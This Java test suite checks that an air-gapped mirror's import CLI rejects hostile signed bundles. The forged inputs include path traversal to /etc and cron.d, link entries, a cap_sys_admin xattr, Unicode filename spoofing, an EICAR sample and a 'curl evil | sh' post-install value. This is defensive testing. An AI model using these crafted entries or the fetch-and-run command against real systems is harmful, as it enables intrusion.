package dev.airgap.cli;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.airgap.cli.BundleForge.Content;
import dev.airgap.cli.BundleForge.Forged;
import dev.airgap.cli.BundleForge.TarItem;
import dev.airgap.core.Digest;
import dev.airgap.core.Printable;
import dev.airgap.core.bundle.BundleLayout;
import dev.airgap.core.manifest.ManifestCodec;
import dev.airgap.signing.SigningKey;
import dev.airgap.testing.ClamdProcess;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.http.HttpClient;
import java.nio.channels.FileChannel;
import java.nio.channels.FileLock;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Consumer;
import org.apache.commons.compress.archivers.tar.TarConstants;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile bundles against a live mirror, each through the real CLI process. The mirror holds one
 * good import (generation 1, channel {@code lab}, sequence 1, scanned by a real clamd) and is
 * served by a real {@code airgap serve}. Every rejection must: exit with the documented code,
 * print exactly one stderr line naming the fault and where, leave {@code current}, every file
 * under {@code generations/} and {@code store/}, and the served bytes unchanged, leave no
 * staging behind, append exactly one {@code rejected} audit record with that exit code, and keep
 * the audit chain verifiable.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileBundleTest {
  @TempDir static Path tmp;

  private SigningKey ops;
  private SigningKey reviewer;
  private SigningKey rogue;
  private Path trust;
  private Path trustTwoOfTwo;
  private Path trustNoScanForbidden;
  private Path repoKey;
  private Path mirror;
  private ClamdProcess clamd;
  private Cli.Server server;
  private Forged good;
  private final HttpClient http = HttpClient.newHttpClient();
  private final AtomicInteger names = new AtomicInteger();

  private static final String README = "docs/readme.txt";
  private static final String README_V1 = "hello from generation 1\n";

  @BeforeAll
  void setUp() throws Exception {
    assumeTrue(ClamdProcess.available(), "clamd is not installed");
    Path keys = tmp.resolve("keys");
    ops = BundleForge.newKey(keys, "ops");
    reviewer = BundleForge.newKey(keys, "reviewer");
    rogue = BundleForge.newKey(keys, "rogue");
    trust = Files.createDirectories(tmp.resolve("trust"));
    Files.copy(keys.resolve("ops.pub"), trust.resolve("ops.pub"));
    trustTwoOfTwo = Files.createDirectories(tmp.resolve("trust-2-of-2"));
    Files.copy(keys.resolve("ops.pub"), trustTwoOfTwo.resolve("ops.pub"));
    Files.copy(keys.resolve("reviewer.pub"), trustTwoOfTwo.resolve("reviewer.pub"));
    Files.writeString(trustTwoOfTwo.resolve("policy.json"), "{\"threshold\": 2}\n");
    trustNoScanForbidden = Files.createDirectories(tmp.resolve("trust-scan-required"));
    Files.copy(keys.resolve("ops.pub"), trustNoScanForbidden.resolve("ops.pub"));
    Files.writeString(trustNoScanForbidden.resolve("policy.json"), "{\"allowNoScan\": false}\n");

    Cli.runQuick("keys", "generate", "--openpgp", "--out", keys.toString(), "--name", "repo").expect(0);
    repoKey = keys.resolve("repo.secret.asc");

    clamd = ClamdProcess.start(tmp.resolve("clamd"));
    mirror = tmp.resolve("mirror");
    good = new BundleForge().channel("lab").sequence(1).signedBy(ops)
        .file(README, README_V1)
        .file("docs/guide.md", "# guide, generation 1\n")
        .file("data/table.csv", "a,b\n1,2\n")
        .write(tmp.resolve("good.bundle"));
    Cli.Run r = importWith(good.path(), "--clamd", clamd.address()).expect(0);
    assertTrue(r.out().contains("published generation 1"), r.out());
    server = Cli.Server.startStable(mirror);
    assertArrayEquals(README_V1.getBytes(StandardCharsets.UTF_8), served(README));
  }

  @AfterAll
  void tearDown() throws Exception {
    if (server != null) server.close();
    if (clamd != null) clamd.close();
  }

  // ---------------------------------------------------------------------------------------------
  // the bundles

  /** A well-formed, correctly signed bundle for channel lab, sequence 2, with three blobs. */
  private BundleForge next() {
    return new BundleForge().channel("lab").sequence(2).signedBy(ops)
        .file(README, "hello from generation 2\n")
        .file("docs/guide.md", "# guide, generation 2\n")
        .file("data/table.csv", "a,b\n3,4\n");
  }

  private Path bundlePath() {
    return tmp.resolve("bundles").resolve("b" + names.incrementAndGet() + ".bundle");
  }

  private Forged forge(BundleForge f) throws IOException {
    return f.write(bundlePath());
  }

  private Forged forgeEntries(Consumer<List<TarItem>> edit) throws IOException {
    return forge(next().entries(edit));
  }

  // ---------------------------------------------------------------------------------------------
  // sanity: the forge's unmodified output is a bundle the real CLI accepts

  @Test
  void forgedBundleWithoutFaultsVerifies() throws IOException {
    BundleForge f = next();
    Forged b = forge(f);
    assertArrayEquals(ManifestCodec.encode(f.manifest()), b.manifestBytes(), "forge serialises manifests like ManifestCodec");
    Cli.runQuick("verify", b.path().toString(), "--trust", trust.toString()).expect(0);
  }

  // ---------------------------------------------------------------------------------------------
  // integrity: exit 3

  @Test
  void flippedByteInBlob() throws IOException {
    String[] victim = new String[1];
    Forged b = forgeEntries(items -> {
      TarItem t = items.get(4);
      victim[0] = t.name;
      t.content = t.content.flipByteAt(3);
    });
    rejected(b.path(), 3, "entry '" + victim[0] + "'", "digest mismatch");
  }

  @Test
  void blobMissing() throws IOException {
    String[] victim = new String[1];
    Forged b = forgeEntries(items -> victim[0] = items.remove(4).name); // the middle one of three
    rejected(b.path(), 3, "missing", victim[0]);
  }

  @Test
  void blobMissingAtTheEnd() throws IOException {
    String[] victim = new String[1];
    Forged b = forgeEntries(items -> victim[0] = items.remove(items.size() - 1).name);
    rejected(b.path(), 3, "missing", victim[0]);
  }

  @Test
  void unlistedExtraEntry() throws IOException {
    Forged b = forgeEntries(items -> items.add(TarItem.file("notes/extra.txt", "not in the manifest\n".getBytes(StandardCharsets.UTF_8))));
    rejected(b.path(), 3, "entry 'notes/extra.txt'", "not listed in the manifest");
  }

  @Test
  void unlistedExtraBlob() throws IOException {
    byte[] extra = "a well-formed blob nobody listed\n".getBytes(StandardCharsets.UTF_8);
    String name = Forged.blobName(extra);
    Forged b = forgeEntries(items -> items.add(TarItem.file(name, extra)));
    rejected(b.path(), 3, "entry '" + name + "'", "not listed in the manifest");
  }

  @Test
  void duplicateBlobEntry() throws IOException {
    String[] victim = new String[1];
    Forged b = forgeEntries(items -> {
      victim[0] = items.get(3).name;
      items.add(4, items.get(3).copy());
    });
    rejected(b.path(), 3, "entry '" + victim[0] + "'", "duplicate entry");
  }

  @Test
  void duplicateHeadEntry() throws IOException {
    Forged b = forgeEntries(items -> items.add(items.get(0).copy()));
    rejected(b.path(), 3, "entry 'manifest.json'", "duplicate entry");
  }

  @Test
  void blobsOutOfOrder() throws IOException {
    String[] second = new String[1];
    Forged b = forgeEntries(items -> {
      Collections.swap(items, 3, 5); // largest digest first
      second[0] = items.get(4).name;
    });
    rejected(b.path(), 3, "entry '" + second[0] + "'", "ascending digest order");
  }

  @Test
  void entryNamedDotDot() throws IOException {
    Forged b = forgeEntries(items -> items.add(3, TarItem.file("../evil", "owned\n".getBytes(StandardCharsets.UTF_8))));
    rejected(b.path(), 3, "entry '../evil'", "unsafe path", "'..' segment");
  }

  @Test
  void entryWithAbsoluteName() throws IOException {
    Forged b = forgeEntries(items -> items.add(3, TarItem.file("/etc/passwd", "root::0:0::/:/bin/sh\n".getBytes(StandardCharsets.UTF_8))));
    rejected(b.path(), 3, "entry '/etc/passwd'", "absolute path");
  }

  @Test
  void symlinkEntry() throws IOException {
    String[] victim = new String[1];
    Forged b = forgeEntries(items -> {
      victim[0] = items.get(3).name;
      items.set(3, TarItem.symlink(victim[0], "/etc/passwd"));
    });
    rejected(b.path(), 3, "entry '" + victim[0] + "'", "link entries are not allowed", "/etc/passwd");
  }

  @Test
  void hardlinkEntry() throws IOException {
    String[] victim = new String[1];
    Forged b = forgeEntries(items -> {
      victim[0] = items.get(4).name;
      items.set(4, TarItem.hardlink(victim[0], items.get(3).name));
    });
    rejected(b.path(), 3, "entry '" + victim[0] + "'", "link entries are not allowed");
  }

  @Test
  void charDeviceEntry() throws IOException {
    Forged b = forgeEntries(items -> items.add(3, TarItem.charDevice("dev/null", 1, 3)));
    rejected(b.path(), 3, "entry 'dev/null'", "device or FIFO entries are not allowed");
  }

  @Test
  void fifoEntry() throws IOException {
    Forged b = forgeEntries(items -> items.add(3, TarItem.special("pipe", TarConstants.LF_FIFO)));
    rejected(b.path(), 3, "entry 'pipe'", "device or FIFO entries are not allowed");
  }

  @Test
  void directoryEntry() throws IOException {
    Forged b = forgeEntries(items -> items.add(3, TarItem.special("blobs/sha256/", TarConstants.LF_DIR)));
    rejected(b.path(), 3, "entry 'blobs/sha256/'", "directory entries are not allowed");
  }

  @Test
  void paxSizeDisagreesWithUstarSize() throws IOException {
    String[] victim = new String[1];
    long[] size = new long[1];
    Forged b = forgeEntries(items -> {
      TarItem t = items.get(3);
      victim[0] = t.name;
      size[0] = t.content.size();
      t.ustarSize = size[0] + 512;
    });
    rejected(b.path(), 3, "entry '" + victim[0] + "'", "PAX size " + size[0] + " disagrees with the ustar header size " + (size[0] + 512));
  }

  @Test
  void paxPathOverridesAHarmlessUstarName() throws IOException {
    // The ustar header keeps the blob's name; the PAX record renames the entry.
    Forged b = forgeEntries(items -> items.get(3).pax.put("path", "../../etc/cron.d/evil"));
    rejected(b.path(), 3, "entry '../../etc/cron.d/evil'", "unsafe path");
  }

  @Test
  void unexpectedPaxKeyword() throws IOException {
    String[] victim = new String[1];
    Forged b = forgeEntries(items -> {
      TarItem t = items.get(3);
      victim[0] = t.name;
      t.pax.put("SCHILY.xattr.security.capability", "cap_sys_admin+ep");
    });
    rejected(b.path(), 3, "entry '" + victim[0] + "'", "unexpected PAX records", "SCHILY.xattr.security.capability");
  }

  @Test
  void blobEntrySizeDiffersFromManifest() throws IOException {
    String[] victim = new String[1];
    long[] sizes = new long[2];
    Forged b = forgeEntries(items -> {
      TarItem t = items.get(4);
      victim[0] = t.name;
      try (java.io.InputStream in = t.content.open()) {
        byte[] longer = (new String(in.readAllBytes(), StandardCharsets.UTF_8) + "appended").getBytes(StandardCharsets.UTF_8);
        sizes[0] = t.content.size();
        sizes[1] = longer.length;
        t.content = Content.of(longer);
      } catch (IOException e) {
        throw new java.io.UncheckedIOException(e);
      }
    });
    rejected(b.path(), 3, "entry '" + victim[0] + "'", "size mismatch: expected " + sizes[0] + " bytes, got " + sizes[1]);
  }

  @Test
  void flippedByteInABlobTheStoreAlreadyHas() throws IOException {
    // The importer skips staging blobs it already has, but must still verify their bytes.
    byte[] known = README_V1.getBytes(StandardCharsets.UTF_8);
    String name = Forged.blobName(known);
    Forged b = forge(next().file("docs/readme-copy.txt", README_V1).entries(items -> {
      for (TarItem t : items) if (t.name.equals(name)) t.content = t.content.flipByteAt(0);
    }));
    rejected(b.path(), 3, "entry '" + name + "'", "digest mismatch");
  }

  @Test
  void headEntriesOutOfOrder() throws IOException {
    Forged b = forgeEntries(items -> Collections.swap(items, 1, 2));
    rejected(b.path(), 3, "entry 'sbom.cdx.json'", "expected 'manifest.dsse.json' here");
  }

  @Test
  void unknownManifestMember() throws IOException {
    Forged b = forge(next().editManifest(m -> m.put("postInstall", "curl evil | sh")));
    rejected(b.path(), 3, "manifest", "postInstall");
  }

  @Test
  void artifactTypeThatCannotBePublished() throws IOException {
    Forged b = forge(next().artifact("npm", "left-pad", "1.3.0", "pkg:npm/left-pad@1.3.0", null).file("left-pad-1.3.0.tgz", "tarball\n"));
    rejected(b.path(), 3, "manifest artifact 'left-pad'", "type 'npm' cannot be published");
  }

  @Test
  void trailingGarbageAfterEndOfArchive() throws IOException {
    Forged b = forge(next().trailing("GARBAGE".getBytes(StandardCharsets.US_ASCII)));
    rejected(b.path(), 3, b.path().toString(), "trailing data after the end of the archive");
  }

  @Test
  void trailingGarbageAfterFullRecordPadding() throws IOException {
    // What GNU tar and Commons Compress write by default: the archive padded to a 10240-byte record.
    Forged b = forge(next().recordPadding(10240).trailing("GARBAGE".getBytes(StandardCharsets.US_ASCII)));
    rejected(b.path(), 3, b.path().toString(), "trailing data after the end of the archive");
  }

  @Test
  void trailingGarbageInsteadOfSecondEndBlock() throws IOException {
    Forged b = forge(next());
    byte[] garbage = new byte[512];
    java.util.Arrays.fill(garbage, (byte) 'G');
    try (FileChannel ch = FileChannel.open(b.path(), StandardOpenOption.WRITE)) {
      ch.write(java.nio.ByteBuffer.wrap(garbage), b.endOfArchive() - 512); // the second zero block
    }
    rejected(b.path(), 3, b.path().toString(), "trailing data");
  }

  @Test
  void truncatedInsideABlob() throws IOException {
    Forged b = forge(next());
    b.truncate(b.dataOffsets().get(b.blobNames().get(1)) + 5);
    rejected(b.path(), 3, b.path().toString(), "truncated");
  }

  @Test
  void truncatedInsideTheHead() throws IOException {
    Forged b = forge(next());
    b.truncate(b.dataOffsets().get(BundleLayout.ENVELOPE) + 40);
    rejected(b.path(), 3, b.path().toString(), "truncated");
  }

  @Test
  void manifestEntryDiffersFromSignedPayload() throws IOException {
    Forged b = forge(next().tamperManifestEntry(bytes -> {
      String text = new String(bytes, StandardCharsets.UTF_8);
      String changed = text.replace("\"sequence\" : 2", "\"sequence\" : 9");
      assertNotEquals(text, changed);
      return changed.getBytes(StandardCharsets.UTF_8);
    }));
    rejected(b.path(), 3, "manifest.json", "differs from the signed payload");
  }

  @Test
  void dotDotLogicalPathInSignedManifest() throws IOException {
    Forged b = forge(next().file("../x", "escape\n"));
    rejected(b.path(), 3, "'../x'", "unsafe path", "'..' segment");
  }

  @Test
  void rightToLeftOverrideInSignedManifestPath() throws IOException {
    // A terminal shows docs/evil<U+202E>txt.exe as docs/evilexe.txt; the message shows the escape, never the raw character.
    Forged b = forge(next().file("docs/evil\u202Etxt.exe", "MZ\n"));
    rejected(b.path(), 3, "'docs/evil\\u202Etxt.exe'", "unsafe path", "invisible format character U+202E");
  }

  @Test
  void zeroWidthSpaceInSignedManifestPath() throws IOException {
    Forged b = forge(next().file("docs/read\u200Bme.txt", "lookalike\n"));
    rejected(b.path(), 3, "'docs/read\\u200Bme.txt'", "invisible format character U+200B");
  }

  @Test
  void absoluteLogicalPathInSignedManifest() throws IOException {
    Forged b = forge(next().file("/etc/cron.d/x", "escape\n"));
    rejected(b.path(), 3, "'/etc/cron.d/x'", "absolute path");
  }

  @Test
  void caseCollisionInSignedManifest() throws IOException {
    Forged b = forge(next().file("Docs/A.txt", "upper\n").file("docs/a.txt", "lower\n"));
    rejected(b.path(), 3, "'docs/a.txt' collides with 'Docs/A.txt'", "manifest.artifacts[0].files[4].path");
  }

  @Test
  void nfcNfdCollisionInSignedManifest() throws IOException {
    // "café.txt" precomposed (NFC) and decomposed (NFD): one name to a macOS client.
    Forged b = forge(next().file("docs/caf\u00e9.txt", "nfc\n").file("docs/cafe\u0301.txt", "nfd\n"));
    rejected(b.path(), 3, "unsafe path", "not in Unicode NFC form");
  }

  @Test
  void nfkcCompatibilityCollisionInSignedManifest() throws IOException {
    // U+FB01 LATIN SMALL LIGATURE FI is NFC, but NFKC folds it to "fi".
    Forged b = forge(next().file("docs/file.txt", "plain\n").file("docs/\ufb01le.txt", "ligature\n"));
    rejected(b.path(), 3, "manifest.artifacts[0].files[4].path", "collides with 'docs/file.txt'");
  }

  @Test
  void caseCollisionWithAlreadyPublishedPath() throws IOException {
    // Each bundle is clean on its own; together with generation 1 two files would be one on a case-insensitive client.
    Forged b = forge(new BundleForge().channel("lab").sequence(2).signedBy(ops).file("DOCS/README.TXT", "shadow\n"));
    rejected(b.path(), 3, "channel 'lab'", "'DOCS/README.TXT' collides with the published path 'docs/readme.txt'");
  }

  @Test
  void sbomTamperedAfterSigning() throws IOException {
    Forged b = forge(next().tamperSbomEntry(bytes -> {
      String text = new String(bytes, StandardCharsets.UTF_8);
      String changed = text.replace("docs/guide.md", "docs/gu1de.md");
      assertNotEquals(text, changed);
      return changed.getBytes(StandardCharsets.UTF_8);
    }));
    rejected(b.path(), 3, "sbom.cdx.json", "digest mismatch");
  }

  @Test
  void notATarAtAll() throws IOException {
    byte[] noise = new byte[5000];
    new Random(42).nextBytes(noise);
    Path p = bundlePath();
    Files.write(p, noise);
    rejected(p, 3, p.toString());
  }

  @Test
  void textFileInsteadOfBundle() throws IOException {
    Path p = bundlePath();
    Files.writeString(p, "this is not a bundle\n");
    rejected(p, 3, p.toString(), "not a bundle");
  }

  @Test
  void sequenceZero() throws IOException {
    Forged b = forge(next().sequence(0));
    rejected(b.path(), 3, "manifest.sequence", "at least 1");
  }

  // ---------------------------------------------------------------------------------------------
  // trust: exit 4

  @Test
  void signedByUnknownKey() throws IOException {
    BundleForge f = new BundleForge().channel("lab").sequence(2).signedBy(rogue).file(README, "rogue\n");
    rejected(forge(f).path(), 4, "manifest.dsse.json", "needs 1 distinct trusted signature(s), found 0", "unknown");
  }

  @Test
  void noSignatures() throws IOException {
    BundleForge f = new BundleForge().channel("lab").sequence(2).file(README, "unsigned\n");
    rejected(forge(f).path(), 4, "manifest.dsse.json", "no signatures");
  }

  @Test
  void thresholdTwoWithOneSignature() throws IOException {
    Forged b = forge(next());
    rejected(b.path(), 4, List.of("--trust", trustTwoOfTwo.toString(), "--clamd", clamd.address()),
        "manifest.dsse.json", "needs 2 distinct trusted signature(s), found 1");
  }

  @Test
  void replayedOlderSequence() throws IOException {
    // A different bundle (other id, other content) claiming sequence 1 again.
    Forged b = forge(next().sequence(1));
    assertNotEquals(good.manifestDigest(), b.manifestDigest());
    rejected(b.path(), 4, "channel 'lab'", "sequence 1 is not above the last imported sequence 1");
  }

  @Test
  void expiredBundle() throws IOException {
    Instant now = Instant.now().truncatedTo(ChronoUnit.SECONDS);
    Forged b = forge(next().created(now.minus(10, ChronoUnit.DAYS)).expires(now.minus(1, ChronoUnit.DAYS)));
    rejected(b.path(), 4, "bundle " + b.bundleId(), "expired at");
  }

  @Test
  void noScanForbiddenByPolicy() throws IOException {
    Forged b = forge(next());
    rejected(b.path(), 4, List.of("--trust", trustNoScanForbidden.toString(), "--no-scan"), "policy.json", "forbids --no-scan");
  }

  // ---------------------------------------------------------------------------------------------
  // content and environment: exit 5 and 6

  @Test
  void eicarInsideTheBundleIsQuarantined() throws IOException {
    byte[] eicar = ClamdProcess.eicar().getBytes(StandardCharsets.US_ASCII);
    Forged b = forge(next().file("docs/eicar.com", eicar));
    String hex = Digest.of(eicar).hex();
    rejected(b.path(), 5, "docs/eicar.com", "infected", ClamdProcess.EICAR_SIGNATURE, "quarantined");
    Path q = mirror.resolve("quarantine").resolve(b.bundleId());
    assertArrayEquals(eicar, Files.readAllBytes(q.resolve(hex)), "the infected file is kept in quarantine");
    String reason = Files.readString(q.resolve(hex + ".reason.json"));
    assertTrue(reason.contains(ClamdProcess.EICAR_SIGNATURE), reason);
    assertTrue(reason.contains("docs/eicar.com"), reason);
    assertTrue(reason.contains("INFECTED"), reason);
    assertEquals(List.of(hex, hex + ".reason.json"), MirrorState.list(q), "only the infected file is quarantined");
  }

  @Test
  void clamdStopped() throws IOException {
    String address;
    try (ClamdProcess stopped = ClamdProcess.start(tmp.resolve("clamd-stopped"))) {
      address = stopped.address();
      stopped.stop();
    }
    Forged b = forge(next());
    rejected(b.path(), 6, List.of("--trust", trust.toString(), "--clamd", address), "clamd " + address, "unreachable", "nothing was published");
  }

  @Test
  void declaredSizeBeyondFreeDisk() throws IOException {
    long huge = 1L << 50; // 1 PiB
    Forged b = forge(next().file("data/huge.bin", Content.declaredOnly(huge, Digest.of("never sent".getBytes(StandardCharsets.UTF_8))), "application/octet-stream"));
    rejected(b.path(), 6, b.path().toString(), "bytes of new content", "bytes free");
  }

  @Test
  void mirrorLockHeldByAnotherProcess() throws Exception {
    Forged b = forge(next());
    Process holder = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(), "-cp",
        Cli.stableClassPath(), LockHolder.class.getName(), mirror.resolve(".lock").toString())
        .redirectErrorStream(true).start();
    try {
      BufferedReader r = new BufferedReader(new InputStreamReader(holder.getInputStream(), StandardCharsets.UTF_8));
      assertEquals("locked", r.readLine(), "lock holder did not get the lock");
      rejectedWithoutAudit(b.path(), 6, List.of("--trust", trust.toString(), "--clamd", clamd.address()), "another import holds the mirror lock");
    } finally {
      holder.getOutputStream().close(); // tells the holder to release and exit
      if (!holder.waitFor(10, TimeUnit.SECONDS)) holder.destroyForcibly();
    }
  }

  /** Holds an OS lock on the file named by args[0] (FileChannel.tryLock, as the importer takes it) until stdin closes. */
  public static final class LockHolder {
    public static void main(String[] args) throws IOException {
      try (FileChannel ch = FileChannel.open(Path.of(args[0]), StandardOpenOption.CREATE, StandardOpenOption.WRITE);
          FileLock lock = ch.tryLock()) {
        System.out.println(lock == null ? "busy" : "locked");
        System.out.flush();
        while (System.in.read() >= 0) {
          // wait for EOF
        }
      }
    }
  }

  // ---------------------------------------------------------------------------------------------
  // accepted paths

  @Test
  void identicalReimportIsANoOp() {
    MirrorState.Snapshot before = MirrorState.snapshot(mirror);
    int records = MirrorState.audit(mirror).size();
    Cli.Run r = importWith(good.path(), "--clamd", clamd.address()).expect(0);
    assertTrue(r.out().contains("already imported"), r.out());
    assertEquals("", r.err());
    assertEquals(before, MirrorState.snapshot(mirror));
    List<JsonNode> audit = MirrorState.audit(mirror);
    assertEquals(records + 1, audit.size());
    JsonNode last = audit.get(audit.size() - 1);
    assertEquals("unchanged", last.get("outcome").asText(), last.toString());
    assertEquals(0, last.get("exitCode").asInt(), last.toString());
    assertEquals(good.bundleId(), last.get("bundleId").asText(), last.toString());
    assertEquals(1, last.get("generation").asLong(), last.toString());
    MirrorState.auditVerifies(mirror);
    assertArrayEquals(README_V1.getBytes(StandardCharsets.UTF_8), served(README));
  }

  @Test
  void noScanImportIntoFreshMirrorUnderPermissivePolicy() throws Exception {
    Path fresh = tmp.resolve("fresh-mirror");
    Cli.Run r = Cli.runQuick("import", good.path().toString(), "--mirror", fresh.toString(), "--trust", trust.toString(), "--no-scan").expect(0);
    assertTrue(r.out().contains("published generation 1"), r.out());
    List<JsonNode> audit = MirrorState.audit(fresh);
    assertEquals(1, audit.size());
    JsonNode rec = audit.get(0);
    assertEquals("accepted", rec.get("outcome").asText(), rec.toString());
    assertEquals(0, rec.get("exitCode").asInt(), rec.toString());
    assertTrue(rec.get("scanner").asText().contains("no-scan"), rec.toString());
    assertEquals("[\"ops\"]", rec.get("signers").toString(), rec.toString());
    MirrorState.auditVerifies(fresh);
    try (Cli.Server s = Cli.Server.startStable(fresh)) {
      assertArrayEquals(README_V1.getBytes(StandardCharsets.UTF_8), MirrorState.fetch(http, s.url("/files/lab/" + README)));
    }
  }

  // ---------------------------------------------------------------------------------------------
  // apt packages: signed, but not what the manifest says they are (read while staging)

  private static final String HELLO_POOL = "pool/main/h/hello/hello_1.0_amd64.deb";

  private BundleForge withHello(byte[] deb) {
    return next().artifact("apt", "hello", "1.0", "pkg:deb/debian/hello@1.0?arch=amd64",
            java.util.Map.of("suite", "stable", "component", "main", "architecture", "amd64", "architectures", "amd64"))
        .file(HELLO_POOL, Content.of(deb), "application/vnd.debian.binary-package");
  }

  private List<String> aptArgs() {
    return List.of("--trust", trust.toString(), "--clamd", clamd.address(), "--repo-key", repoKey.toString());
  }

  @Test
  void aptPackageThatIsNotADebianPackage() throws IOException {
    Forged b = forge(withHello("#!/bin/sh\necho not a package\n".getBytes(StandardCharsets.UTF_8)));
    rejected(b.path(), 3, aptArgs(), "apt artifact 'hello' 1.0", "'" + HELLO_POOL + "' is not a readable Debian package");
  }

  @Test
  void aptPackageWhoseControlFileDisagreesWithTheManifest() throws IOException {
    byte[] deb = deb("Package: hello\nVersion: 2.0\nArchitecture: amd64\nMaintainer: T <t@example.invalid>\nDescription: hello\n");
    rejected(forge(withHello(deb)).path(), 3, aptArgs(), "apt artifact 'hello' 1.0", "control file says hello 2.0 (amd64)", "the manifest says hello 1.0 (amd64)");
  }

  @Test
  void aptPackageThatMatchesIsAcceptedBySameForge() throws IOException {
    // The two rejections above differ from this bundle only in the package's bytes.
    Path scratch = tmp.resolve("apt-accept-mirror");
    byte[] deb = deb("Package: hello\nVersion: 1.0\nArchitecture: amd64\nMaintainer: T <t@example.invalid>\nDescription: hello\n");
    Path bundle = forge(withHello(deb)).path();
    Cli.runQuick("import", bundle.toString(), "--mirror", scratch.toString(), "--trust", trust.toString(), "--no-scan", "--repo-key", repoKey.toString()).expect(0);
    assertTrue(Files.readString(scratch.resolve("current/apt/dists/stable/main/binary-amd64/Packages")).contains("Package: hello\nVersion: 1.0\n"));
  }

  /** A minimal Debian binary package: ar(debian-binary, control.tar.gz with ./control, data.tar.gz). */
  private static byte[] deb(String control) throws IOException {
    java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
    try (org.apache.commons.compress.archivers.ar.ArArchiveOutputStream ar = new org.apache.commons.compress.archivers.ar.ArArchiveOutputStream(out)) {
      arMember(ar, "debian-binary", "2.0\n".getBytes(StandardCharsets.US_ASCII));
      arMember(ar, "control.tar.gz", gzTar("./control", control.getBytes(StandardCharsets.UTF_8)));
      arMember(ar, "data.tar.gz", gzTar("./usr/share/doc/hello/README", "hello\n".getBytes(StandardCharsets.UTF_8)));
    }
    return out.toByteArray();
  }

  private static void arMember(org.apache.commons.compress.archivers.ar.ArArchiveOutputStream ar, String name, byte[] bytes) throws IOException {
    ar.putArchiveEntry(new org.apache.commons.compress.archivers.ar.ArArchiveEntry(name, bytes.length, 0, 0, 0100644, 1_700_000_000L));
    ar.write(bytes);
    ar.closeArchiveEntry();
  }

  private static byte[] gzTar(String name, byte[] content) throws IOException {
    java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
    try (java.util.zip.GZIPOutputStream gz = new java.util.zip.GZIPOutputStream(out);
        org.apache.commons.compress.archivers.tar.TarArchiveOutputStream tar = new org.apache.commons.compress.archivers.tar.TarArchiveOutputStream(gz)) {
      org.apache.commons.compress.archivers.tar.TarArchiveEntry e = new org.apache.commons.compress.archivers.tar.TarArchiveEntry(name);
      e.setSize(content.length);
      tar.putArchiveEntry(e);
      tar.write(content);
      tar.closeArchiveEntry();
    }
    return out.toByteArray();
  }

  // ---------------------------------------------------------------------------------------------
  // assertions

  private Cli.Run importWith(Path bundle, String... scanArgs) {
    List<String> args = new ArrayList<>(List.of("import", bundle.toString(), "--mirror", mirror.toString(), "--trust", trust.toString()));
    args.addAll(List.of(scanArgs));
    return Cli.runQuick(args.toArray(String[]::new));
  }

  private byte[] served(String path) {
    return MirrorState.fetch(http, server.url("/files/lab/" + path));
  }

  private void rejected(Path bundle, int exitCode, String... keywords) {
    rejected(bundle, exitCode, List.of("--trust", trust.toString(), "--clamd", clamd.address()), keywords);
  }

  private void rejected(Path bundle, int exitCode, List<String> trustAndScan, String... keywords) {
    check(bundle, exitCode, trustAndScan, true, keywords);
  }

  private void rejectedWithoutAudit(Path bundle, int exitCode, List<String> trustAndScan, String... keywords) {
    check(bundle, exitCode, trustAndScan, false, keywords);
  }

  private void check(Path bundle, int exitCode, List<String> trustAndScan, boolean audited, String... keywords) {
    MirrorState.Snapshot before = MirrorState.snapshot(mirror);
    List<JsonNode> auditBefore = MirrorState.audit(mirror);
    byte[] servedBefore = served(README);

    List<String> args = new ArrayList<>(List.of("import", bundle.toString(), "--mirror", mirror.toString()));
    args.addAll(trustAndScan);
    Cli.Run r = Cli.runQuick(args.toArray(String[]::new)).expect(exitCode);
    String line = r.errorLine();
    assertTrue(line.startsWith("airgap: "), line);
    assertTrue(line.codePoints().allMatch(Printable::shown), () -> "unescaped character in: " + line);
    for (String k : keywords) assertTrue(line.toLowerCase(java.util.Locale.ROOT).contains(k.toLowerCase(java.util.Locale.ROOT)), () -> "stderr should mention '" + k + "': " + line);
    assertEquals("", r.out(), "nothing on stdout for a rejection");

    assertEquals(before, MirrorState.snapshot(mirror), "mirror changed by a rejected import");
    assertEquals(List.of(), MirrorState.list(mirror.resolve("staging")), "staging left behind");
    assertTrue(MirrorState.list(mirror).stream().noneMatch(n -> n.startsWith(".current-")), "temporary current link left behind");
    List<JsonNode> audit = MirrorState.audit(mirror);
    if (audited) {
      assertEquals(auditBefore.size() + 1, audit.size(), "exactly one audit record per import attempt");
      JsonNode last = audit.get(audit.size() - 1);
      assertEquals("rejected", last.get("outcome").asText(), last.toString());
      assertEquals(exitCode, last.get("exitCode").asInt(), last.toString());
      assertEquals(line.substring("airgap: ".length()), last.get("message").asText(), "audit message is the error the user saw");
      assertEquals(bundle.toAbsolutePath().toString(), last.get("bundle").asText(), last.toString());
      assertTrue(last.path("generation").isNull() || last.path("generation").isMissingNode(), last.toString());
    } else {
      assertEquals(auditBefore, audit, "no audit record without the lock");
    }
    MirrorState.auditVerifies(mirror);
    assertArrayEquals(servedBefore, served(README), "served content changed");
  }
}
